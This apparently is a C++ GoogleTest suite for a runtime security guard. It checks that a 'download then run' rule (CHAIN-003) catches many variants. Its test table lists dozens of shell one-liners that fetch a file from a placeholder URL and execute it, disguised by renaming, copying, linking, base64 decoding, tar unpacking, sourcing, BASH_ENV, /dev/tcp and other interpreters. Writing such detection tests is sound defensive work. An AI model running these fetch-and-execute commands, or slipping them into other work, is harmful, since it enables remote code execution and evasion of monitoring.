// SPDX-License-Identifier: Apache-2.0
// Download, then run: a file in between, however it is named, copied, unpacked or started.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "chain_attack.h"

namespace davylamp::test {
namespace {

#define FILE_CASE(name, command)                                                                   \
    {                                                                                              \
        name, command, Order::reader_late, "CHAIN-003"                                             \
    }

const Attack kFileAttacks[] = {
    FILE_CASE("curl -o and bash", "curl -s -o @D/f @URL; bash @D/f"),
    FILE_CASE("wget -O and sh", "wget -q -t1 -O @D/f @URL; sh @D/f"),
    FILE_CASE("wget by its own name", "cd @D; wget -q -t1 @URL; sh x.sh"),
    FILE_CASE("a redirection", "curl -s @URL > @D/f; sh @D/f"),
    FILE_CASE("busybox and ash", "busybox wget -q -O @D/f @URL; busybox ash @D/f"),
    FILE_CASE("a renamed downloader", "@D/fetcher -s -o @D/f @URL; bash @D/f"),
    FILE_CASE("a static downloader", "@STATIC > @D/f; bash @D/f"),
    FILE_CASE("executed with an interpreter line",
              "(echo '#!/bin/sh'; curl -s @URL) > @D/f; chmod +x @D/f; @D/f"),
    FILE_CASE("executed without one", "curl -s -o @D/f @URL; chmod 777 @D/f; @D/f"),
    FILE_CASE("an image", "curl -s -o @D/f @ELF_URL; chmod +x @D/f; @D/f @D/marker"),
    FILE_CASE("sourced", "curl -s -o @D/f @URL; source @D/f"),
    FILE_CASE("sourced by a dot", "cd @D; curl -s -o f @URL; . ./f"),
    FILE_CASE("sourced below bash -c", "curl -s -o @D/f @URL; bash -c 'source @D/f'"),
    FILE_CASE("sourced by a name of bash's own", "cd @D; curl -s -o eval @URL; . eval"),
    FILE_CASE("a script that bash has another of for BASH_ENV",
              "mkdir @D/e; echo : > @D/e/f; curl -s -o @D/f @URL; BASH_ENV=@D/e/f bash @D/f"),
    FILE_CASE("a script by a path that bash has another file of for BASH_ENV",
              "cd @D; echo 'mv g f' > f; curl -s -o g @URL; BASH_ENV=f bash f"),
    FILE_CASE("python in the folder", "cd @D; curl -s -o f @PYTHON_URL; /usr/bin/python3 f"),
    FILE_CASE("python called as its library",
              "curl -s -o @D/__init__.py @PYTHON_URL; cd @D; "
              "/usr/bin/python3 -I -X pycache_prefix=@D/none __init__.py"),
    FILE_CASE("node in the folder", "cd @D; curl -s -o f.js @NODE_URL; node ./f.js"),
    FILE_CASE("node by a link", "mkdir @D/d; ln -s d @D/l; curl -s -o @D/d/f.js @NODE_URL; "
                                "node @D/l/f.js"),
    FILE_CASE("started before anything was fetched",
              "(exec /usr/bin/python3 @D/f.py) 2> /dev/null; curl -s -o @D/f.py @PYTHON_URL; "
              "/usr/bin/python3 @D/f.py"),
    FILE_CASE("BASH_ENV", "curl -s -o @D/f @URL; BASH_ENV=@D/f bash -c true"),
    FILE_CASE("on stdin", "curl -s -o @D/f @URL; bash < @D/f"),
    FILE_CASE("python", "curl -s -o @D/f.py @PYTHON_URL; /usr/bin/python3 @D/f.py"),
    FILE_CASE("awk", "curl -s -o @D/f @AWK_URL; awk -f @D/f"),
    FILE_CASE("awk copies", "curl -s -o @D/f @URL; awk '{ print }' @D/f > @D/g; bash @D/g"),
    FILE_CASE("make", "curl -s -o @D/f @MAKE_URL; make -s --file=@D/f"),
    FILE_CASE("tclsh", "curl -s -o @D/f @TCL_URL; tclsh @D/f"),
    FILE_CASE("php -f", "curl -s -o @D/f @PHP_URL; php -f @D/f"),
    FILE_CASE("renamed", "curl -s -o @D/f @URL; mv @D/f @D/g; bash @D/g"),
    FILE_CASE("linked, and its name removed",
              "curl -s -o @D/f @URL; ln @D/f @D/g; rm @D/f; bash @D/g"),
    FILE_CASE("a symbolic link", "curl -s -o @D/f @URL; ln -s @D/f @D/g; bash @D/g"),
    FILE_CASE("cp", "curl -s -o @D/f @URL; cp @D/f @D/g; bash @D/g"),
    FILE_CASE("cp twice", "curl -s -o @D/f @URL; cp @D/f @D/g; cp @D/g @D/h; bash @D/h"),
    FILE_CASE("cp after another", "curl -s -o @D/f @URL; cp @D/f @D/e; mkdir @D/d; "
                                  "cp @D/e @D/local.sh @D/f @D/d; bash @D/d/f"),
    FILE_CASE("cp of a folder", "mkdir @D/d; cp @D/local.sh @D/d; curl -s -o @D/d/f @URL; "
                                "cp -r @D/d @D/c; bash @D/c/f"),
    FILE_CASE("python of a folder", "mkdir @D/d; curl -s -o @D/d/__main__.py @PYTHON_URL; "
                                    "/usr/bin/python3 @D/d"),
    FILE_CASE("opened to write by another meanwhile",
              "at=@TCP; at=${at#/dev/tcp/}; { sleep 0.4; @GET; sleep 0.2; } | "
              "socat - TCP:${at/\\//:} > @D/f & sleep 0.2; : >> @D/f; wait; bash @D/f"),
    FILE_CASE("tar and a program of its",
              "cd @D; curl -s -o f.tar @SCRIPT_TAR_URL; gzip f.tar; tar -I gzip -xf f.tar.gz; "
              "bash packed.sh"),
    FILE_CASE("what another left",
              "curl -s @URL | { dd count=0 status=none; cat > @D/f; }; bash @D/f"),
    FILE_CASE("appended to a script that runs",
              "echo 'curl -s @PROGRAMS_URL >> \"$0\"' > @D/s; sh @D/s"),
    FILE_CASE("appended by a filter to a script that bash runs",
              "echo 'curl -s @PROGRAMS_URL | tee -a \"$0\" > /dev/null' > @D/s; bash @D/s"),
    FILE_CASE("a loop over a file",
              "curl -s -o @D/f @URL; { dd count=0 status=none; cat > @D/g; } < @D/f; bash @D/g"),
    FILE_CASE(
        "a loop over a file, of another one",
        "curl -s -o @D/f @URL; curl -s -o @D/l @DATA_URL; while read -r l; do cat @D/f > @D/g; "
        "done < @D/l; bash @D/g"),
    FILE_CASE("a loop over a file that fetches",
              "curl -s -o @D/l @DATA_URL; while read -r l; do curl -s -o @D/g @URL; done < @D/l; "
              "bash @D/g"),
    FILE_CASE("a loop of echo",
              "curl -s @URL | while read -r l; do /bin/echo \"$l\" >> @D/f; done; bash @D/f"),
    FILE_CASE("install", "curl -s -o @D/f @URL; install -m 755 @D/f @D/g; bash @D/g"),
    FILE_CASE("dd", "curl -s -o @D/f @URL; dd if=@D/f of=@D/g status=none; bash @D/g"),
    FILE_CASE("cat into another", "curl -s -o @D/f @URL; cat @D/f > @D/g; bash @D/g"),
    FILE_CASE("sed in place", "curl -s -o @D/f @URL; sed -i s/x/x/ @D/f; bash @D/f"),
    FILE_CASE("through twelve stages",
              "curl -s @URL |cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat > @D/f; bash @D/f"),
    FILE_CASE("tee", "curl -s @URL | tee @D/f > /dev/null; bash @D/f"),
    FILE_CASE("base64 in the pipe", "curl -s @B64_URL | base64 -d | gunzip > @D/f; bash @D/f"),
    FILE_CASE("base64 of a file", "curl -s -o @D/f @B64_URL; base64 -d @D/f > @D/g.gz; "
                                  "gzip -d @D/g.gz; bash @D/g"),
    FILE_CASE("base64 from stdin",
              "curl -s -o @D/f @B64_URL; base64 -d < @D/f | gunzip > @D/g; bash @D/g"),
    FILE_CASE("tar in the pipe", "curl -s @SCRIPT_TAR_URL | tar x -C @D; bash @D/packed.sh"),
    FILE_CASE("tar of a file",
              "cd @D; curl -s -o f.tar @SCRIPT_TAR_URL; tar xf f.tar; bash packed.sh"),
    FILE_CASE("compiled on the host", "curl -s -o @D/f.c @C_URL; cc -o @D/f @D/f.c; @D/f"),
    FILE_CASE("perl, and the file removed", "curl -s -o @D/f @PERL_URL; perl @D/f; rm -rf @D/f"),
    FILE_CASE("another session", "setsid -w curl -s -o @D/f @URL; setsid -w bash @D/f"),
    FILE_CASE("another user", "curl -s -o @D/f @URL; chmod 777 @D @D/f; "
                              "setpriv --reuid 65534 --clear-groups bash @D/f"),
    FILE_CASE("the downloader long dead",
              "(curl -s -o @D/f @URL) & wait; sleep 0.5; (exec bash @D/f)"),
    FILE_CASE("dev tcp and cat",
              "exec 3<>@TCP; @GET >&3; cat <&3 | sed '1,/^.$/d' > @D/f; bash @D/f"),
    FILE_CASE("dev tcp by a loop of the shell itself",
              "exec 3<>@TCP; @GET >&3; while read -r l <&3 && [ \"${l%?}\" ]; do :; done; "
              "while read -r l <&3; do echo \"$l\"; done > @D/f; bash @D/f"),
    FILE_CASE("a one-liner", "/usr/bin/python3 -c 'import os, urllib.request as u; "
                             "u.urlretrieve(\"@URL\", \"@D/f\"); os.system(\"sh @D/f\")'"),
    FILE_CASE("a program that runs an image it brought", "@SERVICE /elf @D/f @D/marker"),
};

using ChainFile = ChainAttack;

TEST_P(ChainFile, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }

INSTANTIATE_TEST_SUITE_P(Live, ChainFile,
                         testing::Combine(testing::ValuesIn(kFileAttacks),
                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
                         attack_name);

// The record names the address, the file, both processes and the time between.
TEST(ChainFileRecord, NamesAddressFileProcessesAndTime)
{
    ChainSite site;
    GuardResult result =
        run_guard(Mode::monitor, site.fill("curl -s -o @D/f @URL; sleep 0.3; bash @D/f"));
    Finding finding = result.first("CHAIN-003");
    const std::string text = finding.json.dump();
    EXPECT_THAT(text, testing::HasSubstr(site.folder / "f"));
    EXPECT_THAT(text, testing::HasSubstr("curl"));
    EXPECT_EQ(finding.pids("downloader").size(), 1u);
    EXPECT_EQ(finding.pids("interpreter").size(), 1u);
    const std::string message = finding.json["message"];
    EXPECT_THAT(message, testing::HasSubstr(site.web.host()));
    EXPECT_THAT(message, testing::ContainsRegex("[0-9]+ m?s before"));
}

// docs/policy.md: how long a download counts against who runs it.
TEST(ChainFileWindow, EndsWhenPolicySaysSo)
{
    for (const auto& [window, code] : {std::pair<const char*, int>{"1", 0}, {"60", 86}}) {
        ChainSite site;
        GuardOptions options;
        options.mode = Mode::block;
        options.policy = std::string(R"({"detections": {"chain": {"window_s": )") + window + "}}}";
        options.command = bash(site.fill("curl -s -o @D/f @URL; sleep 1.5; bash @D/f"));
        GuardResult result = run_guard(options);
        EXPECT_EQ(result.exit_code, code) << result.out << result.err;
        EXPECT_EQ(exists(site.marker()), code == 0);
    }
}

} // namespace
} // namespace davylamp::test
